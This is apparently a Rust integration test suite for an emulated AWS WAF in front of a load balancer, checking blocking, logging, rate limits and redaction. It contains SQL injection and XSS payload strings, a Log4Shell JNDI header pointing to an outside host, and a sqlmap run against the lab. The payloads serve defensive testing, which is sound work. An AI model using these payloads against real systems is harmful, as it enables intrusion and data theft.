//! AWS WAF on the ALB end to end: every request comes from the emulated
//! internet to the ALB's DNS name; a block is the ALB's 403 and never
//! reaches the target; every verdict is in the lab's WAF log with its rule.

mod common;

use common::{require_root, TestLab};
use serde_json::Value;
use vpcsim::lb::client::query_status;

/// A target behind an ALB with one web ACL exercising every kind of rule.
/// Internet hosts: .10 an ordinary client, .11 an admin (allowed by IP set),
/// .12 a banned address, .13 a second ordinary client.
const TOPOLOGY: &str = r#"
name = "x"
region = "us-east-1"

[vpc]
cidr = "10.0.0.0/16"

[internet]
hosts = ["203.0.113.10", "203.0.113.11", "203.0.113.12", "203.0.113.13"]

[[subnet]]
name = "public-1"
cidr = "10.0.1.0/24"
az = "us-east-1a"
route_table = "public"

[[subnet]]
name = "public-2"
cidr = "10.0.3.0/24"
az = "us-east-1b"
route_table = "public"

[[subnet]]
name = "private-1"
cidr = "10.0.2.0/24"
az = "us-east-1a"

[internet_gateway]
name = "igw"

[[route_table]]
name = "public"
routes = [{ destination = "0.0.0.0/0", target = "igw" }]

[[security_group]]
name = "sg-alb"
ingress = [{ protocol = "tcp", ports = "80", cidr = "0.0.0.0/0" }]

[[security_group]]
name = "sg-app"
ingress = [{ protocol = "tcp", ports = "8000", source_sg = "sg-alb" }]

[[instance]]
name = "app"
subnet = "private-1"
security_groups = ["sg-app"]
run = "model-v1"

[[target_group]]
name = "tg"
port = 8000
targets = ["app"]
health_check = { path = "/", interval = 5, timeout = 2, healthy_threshold = 2, unhealthy_threshold = 2, matcher = "200-499" }

[[load_balancer]]
name = "alb"
subnets = ["public-1", "public-2"]
security_groups = ["sg-alb"]

[[load_balancer.listener]]
port = 80
default_forward = [{ target_group = "tg", weight = 1 }]

[[web_acl]]
name = "waf-test"
default_action = "allow"
load_balancers = ["alb"]
rules = [
  { name = "admins", priority = 1, ip_set = ["203.0.113.11/32"], action = "allow" },
  { name = "banned", priority = 2, ip_set = ["203.0.113.12/32"], action = "block" },
  { name = "no-old-api", priority = 5, action = "block", block_status = 410, block_body = "API v0 is gone", match = { field = "uri_path", positional = "STARTS_WITH", value = "/api/v0/", transforms = ["URL_DECODE", "LOWERCASE"] } },
  { name = "oversize-match", priority = 6, action = "block", match = { and = [ { field = "uri_path", positional = "EXACTLY", value = "/oversize/match" }, { field = "body", positional = "CONTAINS", value = "ATTACK", oversize = "MATCH" } ] } },
  { name = "oversize-nomatch", priority = 7, action = "block", match = { and = [ { field = "uri_path", positional = "EXACTLY", value = "/oversize/nomatch" }, { field = "body", positional = "CONTAINS", value = "ATTACK", oversize = "NO_MATCH" } ] } },
  { name = "oversize-continue", priority = 8, action = "block", match = { and = [ { field = "uri_path", positional = "EXACTLY", value = "/oversize/continue" }, { field = "body", positional = "CONTAINS", value = "ATTACK", oversize = "CONTINUE" } ] } },
  { name = "common", priority = 10, managed = "AWSManagedRulesCommonRuleSet", excluded = ["SizeRestrictions_BODY"] },
  { name = "bad-inputs", priority = 20, managed = "AWSManagedRulesKnownBadInputsRuleSet", override = "count" },
  { name = "sqli", priority = 30, managed = "AWSManagedRulesSQLiRuleSet" },
  { name = "rate", priority = 40, rate_limit = 10, window = 60, aggregate = "ip", action = "block", match = { field = "uri_path", positional = "STARTS_WITH", value = "/rate" } },
]
logging = {}
"#;

struct Waf {
    lab: TestLab,
    dns: String,
}

impl Waf {
    fn up(name: &str) -> Waf {
        Waf::with(name, TOPOLOGY)
    }

    fn with(name: &str, topology: &str) -> Waf {
        let lab = TestLab::up(name, topology);
        let dns = query_status(&lab.name).expect("ALB status").load_balancers[0]
            .dns_name
            .clone();
        Waf { lab, dns }
    }

    /// One curl from internet host `from` to the ALB: (status, body).
    fn curl(&self, from: &str, args: &str, path: &str) -> (u16, String) {
        let script = format!(
            "curl -s -m 20 --interface {from} -w '\\n@@%{{http_code}}' {args} 'http://{}{path}'",
            self.dns
        );
        let (_, out) = self.lab.sh("internet", &script);
        let (body, code) = out.rsplit_once("\n@@").unwrap_or((&out, "0"));
        (code.trim().parse().unwrap_or(0), body.to_string())
    }

    /// A JSON POST from internet host `from` whose body is sent in
    /// `pieces`, each 300 ms after the one before (the first after the
    /// head): (status, response body).
    fn post_in_pieces(&self, from: &str, path: &str, pieces: &[&str]) -> (u16, String) {
        let quoted: Vec<String> = pieces
            .iter()
            .map(|p| format!("'{}'", p.replace('\'', "'\\''")))
            .collect();
        let script = format!(
            r#"python3 - {dns} {from} {path} {pieces} <<'PY'
import socket, sys, time
host, src, path, pieces = sys.argv[1], sys.argv[2], sys.argv[3], sys.argv[4:]
body = "".join(pieces).encode()
s = socket.create_connection((host, 80), timeout=20, source_address=(src, 0))
s.sendall(("POST %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0\r\n"
           "Content-Type: application/json\r\nContent-Length: %d\r\n"
           "Connection: close\r\n\r\n" % (path, host, len(body))).encode())
for p in pieces:
    time.sleep(0.3)
    s.sendall(p.encode())
data = b""
while True:
    chunk = s.recv(65536)
    if not chunk:
        break
    data += chunk
head, _, rest = data.partition(b"\r\n\r\n")
print(head.split()[1].decode())
sys.stdout.write(rest.decode())
PY"#,
            dns = self.dns,
            pieces = quoted.join(" "),
        );
        let (_, out) = self.lab.sh("internet", &script);
        let (code, body) = out.split_once('\n').unwrap_or((&out, ""));
        (code.trim().parse().unwrap_or(0), body.to_string())
    }

    /// The WAF log records, waiting (bounded) until `n` are written.
    fn records(&self, n: usize) -> Vec<Value> {
        for _ in 0..100 {
            let out = self.lab.vpcsim(&["waf-logs", "--lab", &self.lab.name]);
            assert!(
                out.status.success(),
                "{}",
                String::from_utf8_lossy(&out.stderr)
            );
            let v: Vec<Value> = String::from_utf8_lossy(&out.stdout)
                .lines()
                .map(|l| serde_json::from_str(l).expect("one JSON record per line"))
                .collect();
            if v.len() >= n {
                return v;
            }
            std::thread::sleep(std::time::Duration::from_millis(100));
        }
        panic!("fewer than {n} WAF log records");
    }

    /// The record of the request whose URI is `uri`.
    fn record(&self, uri: &str, n: usize) -> Value {
        self.records(n)
            .into_iter()
            .rev()
            .find(|r| r["httpRequest"]["uri"] == uri)
            .unwrap_or_else(|| panic!("no WAF log record for {uri}"))
    }

    /// What the target saw: the access log lines that reached it.
    fn reached_target(&self, uri: &str) -> bool {
        let log = std::fs::read_to_string(format!("/run/vpcsim/{}/alb-access.log", self.lab.name))
            .unwrap_or_default();
        log.lines()
            .any(|l| l.contains(&format!(":80{uri}")) && l.contains("\"waf,forward\""))
    }
}

/// The managed rule that terminated a record (`ruleGroupList[].terminatingRule`).
fn managed_rule(r: &Value) -> String {
    r["ruleGroupList"]
        .as_array()
        .into_iter()
        .flatten()
        .find_map(|g| g["terminatingRule"]["ruleId"].as_str().map(str::to_string))
        .unwrap_or_default()
}

const FORM: &str = "-H 'Content-Type: application/x-www-form-urlencoded'";
const JSON: &str = "-H 'Content-Type: application/json'";

#[test]
fn attacks_are_blocked_and_logged_benign_requests_pass() {
    if !require_root() {
        return;
    }
    let w = Waf::up("waf-e2e");
    let c = "203.0.113.10";
    let mut n = 0;
    let mut send = |args: &str, path: &str| {
        n += 1;
        (w.curl(c, args, path), n)
    };
    // Classic SQL injection and XSS, in every place a client can put them.
    let attacks = [
        (
            "",
            "/q/sqli?id=1%27%20OR%20%271%27%3D%271",
            "sqli",
            "SQLi_QUERYARGUMENTS",
        ),
        (
            "",
            "/q/union?id=1%20UNION%20SELECT%20username,password%20FROM%20users--",
            "sqli",
            "SQLi_QUERYARGUMENTS",
        ),
        (
            "",
            "/q/xss?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
            "common",
            "CrossSiteScripting_QUERYARGUMENTS",
        ),
        (
            &format!("{FORM} -d \"user=admin'--&pass=x\""),
            "/b/form-sqli",
            "sqli",
            "SQLi_BODY",
        ),
        (
            &format!("{FORM} --data-urlencode 'comment=<img src=x onerror=alert(1)>'"),
            "/b/form-xss",
            "common",
            "CrossSiteScripting_BODY",
        ),
        (
            &format!("{JSON} -d '{{\"user_id\": \"1 OR 1=1\"}}'"),
            "/b/json-sqli",
            "sqli",
            "SQLi_BODY",
        ),
        (
            &format!("{JSON} -d '{{\"name\": \"<script>alert(1)</script>\"}}'"),
            "/b/json-xss",
            "common",
            "CrossSiteScripting_BODY",
        ),
        (
            "-H \"Cookie: session=1' or '1'='1\"",
            "/h/cookie-sqli",
            "sqli",
            "SQLi_COOKIE",
        ),
        (
            "-H 'Cookie: pref=<script>alert(1)</script>'",
            "/h/cookie-xss",
            "common",
            "CrossSiteScripting_COOKIE",
        ),
    ];
    for (args, path, rule, managed) in attacks {
        let ((code, body), k) = send(args, path);
        assert_eq!(code, 403, "{path} was not blocked: {body}");
        assert!(
            body.contains("<center><h1>403 Forbidden</h1></center>"),
            "{body}"
        );
        let uri = path.split('?').next().unwrap();
        let r = w.record(uri, k);
        assert_eq!(r["action"], "BLOCK", "{r}");
        assert_eq!(r["terminatingRuleId"], rule, "{r}");
        assert_eq!(r["terminatingRuleType"], "MANAGED_RULE_GROUP");
        assert_eq!(managed_rule(&r), managed, "{r}");
        // Why, as AWS logs it: SQL injection matches carry the statement's
        // sensitivity level (the managed SQLi rules run at LOW), XSS none.
        let location = match &path[..3] {
            "/q/" => "QUERY_STRING",
            "/b/" => "BODY",
            _ => "HEADER",
        };
        let g = &r["ruleGroupList"][0]["terminatingRule"]["ruleMatchDetails"][0];
        for d in [&r["terminatingRuleMatchDetails"][0], g] {
            assert_eq!(d["location"], location, "{r}");
            if rule == "sqli" {
                assert_eq!(d["conditionType"], "SQL_INJECTION", "{r}");
                assert_eq!(d["sensitivityLevel"], "LOW", "{r}");
            } else {
                assert_eq!(d["conditionType"], "XSS", "{r}");
                assert!(d.get("sensitivityLevel").is_none(), "{r}");
            }
        }
        assert!(!w.reached_target(uri), "{uri} reached the target");
    }
    // The seed's JSON posts and what a browser sends pass untouched.
    let browser = "-H 'User-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36' \
         -H 'Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8' \
         -H 'Accept-Language: es-ES,es;q=0.9,en;q=0.8' -H 'Accept-Encoding: gzip, deflate' \
         -H 'Referer: http://example.com/search?q=canary+deployment&page=2' \
         -H 'Cookie: _ga=GA1.1.1234567890.1700000000; theme=dark; AWSALB=00000000000000000'";
    let benign = [
        (
            format!("{JSON} -d '{{\"user_id\": \"42\"}}'"),
            "/api/v1/recommendation",
        ),
        (
            format!("{JSON} -d '{{\"user_id\": 7}}'"),
            "/api/v1/recommendation",
        ),
        (browser.to_string(), "/"),
        (
            browser.to_string(),
            "/search?q=O%27Reilly+books&sort=price-asc&select=all",
        ),
        (
            format!("{FORM} -d 'name=Mar%C3%ADa+O%27Neil&comment=Great+%26+fast%21'"),
            "/contact",
        ),
    ];
    for (args, path) in &benign {
        let ((code, body), k) = send(args, path);
        assert_ne!(code, 403, "benign {path} blocked: {body}");
        let uri = path.split('?').next().unwrap();
        let r = w.record(uri, k);
        assert_eq!(r["action"], "ALLOW", "{r}");
        assert_eq!(r["terminatingRuleId"], "Default_Action", "{r}");
    }
    let ((code, body), _) = send(
        &format!("{JSON} -d '{{\"user_id\": \"42\"}}'"),
        "/api/v1/recommendation",
    );
    assert_eq!(code, 200);
    assert!(body.contains("V1 - Stable"), "{body}");

    // Metrics per web ACL and rule, as in CloudWatch.
    let s = query_status(&w.lab.name).unwrap();
    let m = &s.web_acls[0].metrics;
    assert_eq!(m.all.blocked, attacks.len() as u64);
    assert_eq!(m.all.allowed, benign.len() as u64 + 1);
    let rule = |name: &str| &m.rules.iter().find(|(r, _)| r == name).unwrap().1;
    assert_eq!(rule("sqli").blocked, 5);
    assert_eq!(rule("common").blocked, 4);
}

#[test]
fn count_mode_excluded_rules_ip_sets_custom_responses_and_body_limit() {
    if !require_root() {
        return;
    }
    let w = Waf::up("waf-modes");
    let c = "203.0.113.10";
    // Count mode: KnownBadInputs matches a Log4Shell header but only counts.
    let (code, _) = w.curl(
        c,
        "-H 'X-Api-Version: ${jndi:ldap://198.51.100.9/a}'",
        "/log4j",
    );
    assert_ne!(code, 403);
    let r = w.record("/log4j", 1);
    assert_eq!(r["action"], "ALLOW");
    assert_eq!(
        r["nonTerminatingMatchingRules"][0]["ruleId"], "bad-inputs",
        "{r}"
    );
    assert_eq!(r["nonTerminatingMatchingRules"][0]["action"], "COUNT");
    assert_eq!(managed_rule(&r), "Log4JRCE_HEADER", "{r}");

    // An excluded rule no longer blocks: a 9 KB benign body passes
    // SizeRestrictions_BODY, and the log says it was excluded.
    let big = format!("{JSON} -d '{{\"notes\": \"{}\"}}'", "a".repeat(9000));
    let (code, _) = w.curl(c, &big, "/big");
    assert_ne!(code, 403);
    let r = w.record("/big", 2);
    let g = &r["ruleGroupList"][0];
    assert_eq!(
        g["excludedRules"][0]["ruleId"], "SizeRestrictions_BODY",
        "{r}"
    );

    // The 8 KB the ALB hands the WAF, per oversize handling: an attack
    // marker past 8 KB is invisible (CONTINUE), the oversize body itself
    // matches (MATCH) or never does (NO_MATCH).
    let past = format!("-d '{}ATTACK'", "a".repeat(9000));
    let within = "-d 'xATTACKx'";
    assert_eq!(w.curl(c, within, "/oversize/continue").0, 403);
    assert_ne!(w.curl(c, &past, "/oversize/continue").0, 403);
    assert_eq!(
        w.curl(c, &format!("-d '{}'", "a".repeat(9000)), "/oversize/match")
            .0,
        403
    );
    assert_eq!(w.curl(c, within, "/oversize/match").0, 403);
    assert_ne!(w.curl(c, "-d 'harmless'", "/oversize/match").0, 403);
    assert_ne!(w.curl(c, &past, "/oversize/nomatch").0, 403);
    assert_eq!(w.curl(c, within, "/oversize/nomatch").0, 403);

    // A body that arrives after its head, in pieces: the WAF reads it whole
    // before deciding (an attack in the last piece is blocked), and the
    // target gets every byte, past 8 KB too (the model echoes `user_id`).
    let model = "/api/v1/recommendation";
    let (code, body) = w.post_in_pieces(c, model, &["{\"user_id\": \"", "slow-", "reader\"}"]);
    assert_eq!(code, 200, "{body}");
    assert!(
        body.contains("User slow-reader purchase processed."),
        "{body}"
    );
    let (code, _) = w.post_in_pieces(c, model, &["{\"user_id\": \"", "1' or '1'='1\"}"]);
    assert_eq!(code, 403);
    let long = "b".repeat(9000);
    let (code, body) = w.post_in_pieces(
        c,
        model,
        &["{\"user_id\": \"", &long[..4000], &long[4000..], "\"}"],
    );
    assert_eq!(code, 200, "{body}");
    assert!(
        body.contains(&format!("User {long} purchase")),
        "{}",
        body.len()
    );

    // IP sets: the admin passes even with SQL in the query, the banned
    // address is blocked on a harmless request.
    let sql = "/ip?id=1%27%20OR%20%271%27%3D%271";
    assert_ne!(w.curl("203.0.113.11", "", sql).0, 403);
    assert_eq!(w.curl("203.0.113.13", "", sql).0, 403);
    assert_eq!(w.curl("203.0.113.12", "", "/hello").0, 403);
    let r = w.record("/hello", 15);
    assert_eq!(r["terminatingRuleId"], "banned");
    assert_eq!(r["terminatingRuleType"], "REGULAR");

    // A custom response, after the rule's transformations.
    let (code, body) = w.curl(c, "", "/API/V0/%75sers");
    assert_eq!((code, body.as_str()), (410, "API v0 is gone"));

    // The access log marks every request the WAF saw.
    let log =
        std::fs::read_to_string(format!("/run/vpcsim/{}/alb-access.log", w.lab.name)).unwrap();
    assert!(
        log.lines()
            .all(|l| l.contains("\"waf,forward\"") || l.contains("\"waf\"")),
        "{log}"
    );
}

#[test]
fn rate_based_rule_blocks_one_client_while_another_is_served() {
    if !require_root() {
        return;
    }
    let w = Waf::up("waf-rate");
    let (_, out) = w.lab.sh(
        "internet",
        &format!(
            "for i in $(seq 15); do curl -s -o /dev/null -m 10 --interface 203.0.113.10 -w '%{{http_code}} ' http://{}/rate; done",
            w.dns
        ),
    );
    let codes: Vec<&str> = out.split_whitespace().collect();
    assert_eq!(codes.len(), 15, "{out}");
    assert!(codes[..10].iter().all(|c| *c != "403"), "{out}");
    assert!(codes[10..].iter().all(|c| *c == "403"), "{out}");
    // The other client is under its own limit.
    assert_ne!(w.curl("203.0.113.13", "", "/rate").0, 403);
    // Outside the scope-down the first client is still served.
    assert_ne!(w.curl("203.0.113.10", "", "/other").0, 403);
    let r = w
        .records(17)
        .into_iter()
        .find(|r| r["terminatingRuleId"] == "rate")
        .expect("a rate-based block in the WAF log");
    assert_eq!(r["terminatingRuleType"], "RATE_BASED");
    assert_eq!(r["rateBasedRuleList"][0]["limitKey"], "IP");
    assert_eq!(r["rateBasedRuleList"][0]["limitValue"], "203.0.113.10");
    assert_eq!(r["rateBasedRuleList"][0]["maxRateAllowed"], 10);
}

/// The three managed groups people reach for, the baseline one first (as
/// AWS's console orders them).
const MANAGED_ACL: &str = r#"
[[web_acl]]
name = "waf-managed"
default_action = "allow"
load_balancers = ["alb"]
rules = [
  { name = "common", priority = 10, managed = "AWSManagedRulesCommonRuleSet" },
  { name = "bad-inputs", priority = 20, managed = "AWSManagedRulesKnownBadInputsRuleSet" },
  { name = "sqli", priority = 30, managed = "AWSManagedRulesSQLiRuleSet" },
]
logging = {}
"#;

/// One request of a sqlmap traffic file (`-t`) and the status it got.
struct Sent {
    method: String,
    uri: String,
    args: String,
    status: u16,
}

/// The requests of a sqlmap traffic file, in the order sent.
fn sqlmap_traffic(path: &std::path::Path) -> Vec<Sent> {
    let text = std::fs::read_to_string(path).expect("sqlmap's traffic file");
    let mut out = Vec::new();
    for block in text.split("HTTP request [#").skip(1) {
        let line = block.lines().nth(1).expect("a request line");
        let mut parts = line.split(' ');
        let method = parts.next().unwrap().to_string();
        let target = parts.next().unwrap();
        let (uri, args) = target.split_once('?').unwrap_or((target, ""));
        let status = block
            .split("HTTP response [#")
            .nth(1)
            .and_then(|r| r.split_once("] (")?.1.get(..3)?.parse().ok())
            .unwrap_or(0);
        out.push(Sent {
            method,
            uri: uri.into(),
            args: args.into(),
            status,
        });
    }
    out
}

/// A real attack tool from PyPI, run from the emulated internet against the
/// ALB's DNS name with the SQLi, Common and KnownBadInputs groups on: every
/// request it sends is in the WAF log, request by request; every one that
/// carries SQL is blocked; sqlmap finishes; the lab keeps serving.
#[test]
fn sqlmap_from_the_internet_is_blocked_and_logged() {
    if !require_root() {
        return;
    }
    let found = std::process::Command::new("sh")
        .args(["-c", "command -v sqlmap"])
        .output()
        .unwrap();
    assert!(
        found.status.success(),
        "sqlmap is not installed: run scripts/setup (pip install sqlmap)"
    );
    let topology = format!(
        "{}{MANAGED_ACL}",
        TOPOLOGY.split("[[web_acl]]").next().unwrap()
    );
    let w = Waf::with("waf-sqlmap", &topology);
    let dir = w.lab.file.parent().unwrap().to_path_buf();
    let url = format!("http://{}/api/v1/recommendation?item=42", w.dns);
    // The model's endpoint takes the seed's JSON body; sqlmap attacks the
    // query argument `item`, which the WAF log shows (`args`; a body it
    // does not). sqlmap runs in the internet namespace only.
    let run = |name: &str, extra: &[&str]| -> Vec<Sent> {
        let traffic = dir.join(format!("{name}.traffic"));
        let out_dir = dir.join(name);
        let mut cmd = vec![
            "timeout",
            "900",
            "sqlmap",
            "-u",
            &url,
            "--data",
            r#"{"user_id": "42"}"#,
            "-p",
            "item",
            "--batch",
            "--output-dir",
            out_dir.to_str().unwrap(),
            "-t",
            traffic.to_str().unwrap(),
        ];
        cmd.extend_from_slice(extra);
        let out = w.lab.exec("internet", &cmd);
        assert!(
            out.status.success(),
            "sqlmap did not finish cleanly: {}\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        sqlmap_traffic(&traffic)
    };
    // Request i of sqlmap's traffic file is record `from + i` of the WAF log.
    let correlate = |sent: &[Sent], from: usize| -> Vec<Value> {
        let logged = w.records(from + sent.len());
        assert_eq!(
            logged.len(),
            from + sent.len(),
            "one WAF record per request"
        );
        for (s, r) in sent.iter().zip(&logged[from..]) {
            let h = &r["httpRequest"];
            assert_eq!(h["httpMethod"], s.method.as_str(), "{r}");
            assert_eq!(h["uri"], s.uri.as_str(), "{r}");
            assert_eq!(h["args"], s.args.as_str(), "{r}");
            assert_eq!(r["action"] == "BLOCK", s.status == 403, "{r}");
        }
        logged[from..].to_vec()
    };

    // sqlmap's own User-Agent: the Common group's bad-bot rule stops every
    // request, the first, harmless one included.
    let first = run("default-agent", &[]);
    assert!(first.len() >= 20, "sqlmap sent {} requests", first.len());
    for r in correlate(&first, 0) {
        assert_eq!(r["action"], "BLOCK", "{r}");
        assert_eq!(r["terminatingRuleId"], "common", "{r}");
        assert_eq!(managed_rule(&r), "UserAgent_BadBots_HEADER", "{r}");
    }

    // A browser's User-Agent: now the SQL itself is what is blocked.
    let browser = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
    let second = run("browser-agent", &["--user-agent", browser]);
    let records = correlate(&second, first.len());
    let sql = regex::Regex::new(r"(?i)\b(and|or|select|union|order\s+by|waitfor|exec)\b").unwrap();
    let mut attacks = 0;
    for (s, r) in second.iter().zip(&records) {
        let args: Vec<(String, String)> = form_urlencoded::parse(s.args.as_bytes())
            .map(|(k, v)| (k.into_owned(), v.into_owned()))
            .collect();
        let Some((name, _)) = args.iter().find(|(_, v)| sql.is_match(v)) else {
            continue;
        };
        attacks += 1;
        assert_eq!(s.status, 403, "{}?{} was not blocked", s.uri, s.args);
        // sqlmap's WAF probe (a parameter of its own) also carries XSS and
        // path traversal, which the Common group meets first; the attacks
        // on `item` are the SQLi group's.
        if name == "item" {
            assert_eq!(r["terminatingRuleId"], "sqli", "{r}");
            let rule = managed_rule(r);
            assert!(
                ["SQLi_QUERYARGUMENTS", "SQLiExtendedPatterns_QUERYARGUMENTS"]
                    .contains(&rule.as_str()),
                "{r}"
            );
        }
    }
    assert!(attacks >= 50, "sqlmap sent {attacks} requests with SQL");
    // sqlmap's first request, the original one, went through.
    assert_eq!(second[0].status, 200);

    // The lab keeps serving the seed's request.
    let (code, body) = w.curl(
        "203.0.113.10",
        &format!("{JSON} -A '{browser}' -d '{{\"user_id\": \"42\"}}'"),
        "/api/v1/recommendation",
    );
    assert_eq!(code, 200, "{body}");
    assert!(body.contains("V1 - Stable"), "{body}");
}

/// AWS's logging is opt-in per web ACL and can keep only some records and
/// hide some fields: a filter keeping what was blocked, a redacted header;
/// then no logging configuration at all.
#[test]
fn waf_logging_is_filtered_redacted_and_opt_in() {
    if !require_root() {
        return;
    }
    let acl = MANAGED_ACL.replace(
        "logging = {}",
        r#"logging = { filter = { default = "drop", keep = ["BLOCK", "COUNT"] }, redacted_fields = [{ field = "header", name = "Authorization" }] }"#,
    );
    let base = TOPOLOGY.split("[[web_acl]]").next().unwrap();
    let w = Waf::with("waf-logging", &format!("{base}{acl}"));
    let c = "203.0.113.10";
    let auth = "-H 'Authorization: Bearer s3cr3t'";
    assert_ne!(w.curl(c, auth, "/allowed?id=42").0, 403);
    assert_eq!(
        w.curl(c, auth, "/blocked?id=1%27%20OR%20%271%27%3D%271").0,
        403
    );
    assert_ne!(w.curl(c, auth, "/allowed-too").0, 403);
    let r = w.record("/blocked", 1);
    assert_eq!(r["action"], "BLOCK");
    let logged = w.records(1);
    assert_eq!(logged.len(), 1, "only the blocked request: {logged:?}");
    let auth = r["httpRequest"]["headers"]
        .as_array()
        .unwrap()
        .iter()
        .find(|h| h["name"] == "authorization")
        .cloned()
        .expect("the header is logged, its value redacted");
    assert_eq!(auth["value"], "REDACTED", "{r}");
    assert!(!r.to_string().contains("s3cr3t"), "{r}");

    // No logging configuration: no record, and waf-logs says how to add one.
    let plan = w
        .lab
        .apply(&format!("{base}{MANAGED_ACL}").replace("logging = {}", ""));
    assert!(
        plan.contains(
            "logging (keep BLOCK or COUNT, else drop; redacted HEADER:authorization) -> none"
        ),
        "{plan}"
    );
    assert_eq!(
        w.curl(c, "", "/blocked-again?id=1%27%20OR%20%271%27%3D%271")
            .0,
        403
    );
    let out = w.lab.vpcsim(&["waf-logs", "--lab", &w.lab.name]);
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("web ACL `waf-managed`")
            && err.contains("no logging configuration")
            && err.contains("logging = {}"),
        "{err}"
    );
    // Longer than the log writer's turn: a record sent would be written.
    std::thread::sleep(std::time::Duration::from_millis(300));
    let log = std::fs::read_to_string(format!("/run/vpcsim/{}/waf-logs.log", w.lab.name)).unwrap();
    assert!(!log.contains("/blocked-again"), "{log}");
}
